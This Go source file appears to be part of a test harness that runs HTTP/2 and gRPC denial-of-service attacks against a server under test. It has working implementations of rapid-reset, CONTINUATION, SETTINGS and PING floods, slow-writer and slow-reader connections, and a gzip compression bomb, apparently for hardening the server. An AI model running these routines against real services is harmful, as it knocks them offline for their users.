// Copyright 2026 The fawa Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"compress/gzip"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

const (
	callers = 16
	// batch is how many frames of a flood go out at a time, so that the attacker's own timers stay cheap.
	batch = 20
	// heldStreams are opened on each connection that is held.
	heldStreams = 2
)

// ada is field 1, "Ada".
var ada = []byte{0x0a, 0x03, 'A', 'd', 'a'}

// attacks by name. Rates are such that the attacker takes a small part of one core.
var attacks = map[string]attack{
	"ordinary-calls": {callers, 1000, calls(whole(0, ada))},

	// What one call can be.
	"lying-length":    {callers, 500, calls(envelope(0, 1<<30, ada))},
	"truncated-body":  {callers, 500, calls(envelope(0, 100, ada))},
	"unknown-flags":   {callers, 500, calls(whole(0x80, ada))},
	"invalid-utf8":    {callers, 500, calls(whole(0, []byte{0x0a, 0x02, 0xff, 0xfe}))},
	"not-a-message":   {callers, 500, calls(whole(0, []byte{0xff, 0xff, 0xff}))},
	"name-too-long":   {callers, 500, calls(whole(0, append([]byte{0x0a, 0xe8, 0x0f}, bytes.Repeat([]byte{'a'}, 2024)...)))},
	"deadline-zero":   {callers, 500, calls(whole(0, ada), "grpc-timeout", "0n")},
	"compressed-bomb": {4, 10, bombs},
	"large-headers":   {callers, 100, calls(whole(0, ada), "x-flood", strings.Repeat("~", 40_000))},
	"header-flood":    {callers, 100, calls(whole(0, ada), "x-flood", strings.Repeat("~", 100_000))},

	// What one connection can be.
	"rapid-reset":        {1, 3000, flood(rapidReset)},
	"continuation-flood": {1, 3000, flood(continuations)},
	"settings-flood":     {1, 3000, flood(func(w *wire) error { return w.framer.WriteSettings() })},
	"ping-flood":         {1, 3000, flood(func(w *wire) error { return w.framer.WritePing(false, [8]byte{}) })},
	"empty-data-flood":   {1, 3000, flood(emptyData)},
	"window-of-zero":     {1, 100, hold(sayHello, whole(0, ada), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})},
	"never-ending-calls": {1, 100, hold(greetBidi, nil)},
	"slow-writer":        {1, 100, slowWriter},
	"slow-reader":        {1, 50, slowReader},
}

// calls makes the same call over and over on a connection.
func calls(body []byte, more ...string) func(*attacker) error {
	return func(a *attacker) error {
		w, err := a.dial()
		if err != nil {
			return err
		}
		defer w.Close()
		for a.wait(1) {
			told, err := w.call(body, more...)
			if err != nil {
				return err
			}
			a.told(told)
			select {
			case <-w.over:
				return nil
			default:
			}
		}
		return nil
	}
}

// bomb is a message of 64 MiB of zeros, compressed a thousandfold.
var bomb = sync.OnceValue(func() []byte { return gzippedTimes(64, make([]byte, 1<<20), gzip.BestCompression) })

func bombs(a *attacker) error { return calls(whole(1, bomb()), "grpc-encoding", "gzip")(a) }

// flood sends frames until the server has had enough, and then again on another connection.
func flood(frame func(*wire) error) func(*attacker) error {
	return func(a *attacker) error {
		w, err := a.dial()
		if err != nil {
			return err
		}
		defer w.Close()
		for a.wait(batch) {
			for range batch {
				if w.do(func() error { return frame(w) }) != nil {
					break // said below
				}
			}
			select {
			case <-w.over:
				a.told(w.why)
				return nil
			default:
			}
		}
		return nil
	}
}

func rapidReset(w *wire) error {
	id := w.stream
	w.stream += 2
	err := w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: w.block(greetBidi), EndHeaders: true})
	if err != nil {
		return err
	}
	return w.framer.WriteRSTStream(id, http2.ErrCodeCancel)
}

// continuations begin a field block that never ends.
func continuations(w *wire) error {
	if w.stream == 1 {
		w.stream = 3
		return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.block(sayHello)})
	}
	return w.framer.WriteContinuation(1, false, nil)
}

func emptyData(w *wire) error {
	if w.stream == 1 {
		w.stream = 3
		return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.block(greetBidi), EndHeaders: true})
	}
	return w.framer.WriteData(1, false, nil)
}

// hold opens connections and calls on each, which do not end: their message does not come, where there is
// none, or the settings let nothing of the answers through.
func hold(path string, message []byte, settings ...http2.Setting) func(*attacker) error {
	return func(a *attacker) error {
		for a.wait(1) {
			w, err := a.dial(settings...)
			if err != nil {
				return err
			}
			defer w.Close() // at the end of the attack, all of them
			for range heldStreams {
				id, err := w.open(path)
				if err != nil {
					return err
				}
				if message == nil {
					continue
				}
				if err := w.do(func() error { return w.framer.WriteData(id, true, message) }); err != nil {
					return err
				}
			}
			a.held(w)
		}
		return nil
	}
}

// held says what a connection came to by the end.
func (a *attacker) held(w *wire) {
	go func() {
		<-w.over
		if time.Now().Before(a.end) {
			a.told(w.why)
		}
	}()
}

// sockets opens connections until the end, does something with all there are, the last one being new, and holds
// them.
func (a *attacker) sockets(each func(all []net.Conn)) error {
	var all []net.Conn
	defer func() {
		for _, socket := range all {
			_ = socket.Close()
		}
	}()
	for a.wait(1) {
		socket, err := net.DialTimeout("tcp", a.address, patience)
		if err != nil {
			return err
		}
		all = append(all, socket)
		each(all)
	}
	return nil
}

// slowWriter opens connections that say their preface a byte at a time.
func slowWriter(a *attacker) error {
	return a.sockets(func(all []net.Conn) {
		for i := len(all) - 1; i >= max(0, len(all)-len(http2.ClientPreface)); i-- {
			_, _ = all[i].Write([]byte{http2.ClientPreface[len(all)-1-i]})
		}
	})
}

// slowReader opens connections with a large window that ask for much and read nothing of it.
func slowReader(a *attacker) error {
	message := whole(0, append([]byte{0x0a, 0xe8, 0x07}, bytes.Repeat([]byte{'a'}, 1000)...))
	return a.sockets(func(all []net.Conn) {
		socket := all[len(all)-1]
		_ = socket.(*net.TCPConn).SetReadBuffer(4096)
		_ = socket.SetWriteDeadline(time.Now().Add(time.Second))
		w, err := preface(socket, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
		if err != nil {
			return // what was sent is held all the same
		}
		_ = w.framer.WriteWindowUpdate(0, 1<<30)
		id, err := w.open(greetBidi)
		for range 60 {
			if err != nil {
				break
			}
			err = w.framer.WriteData(id, false, message)
		}
	})
}
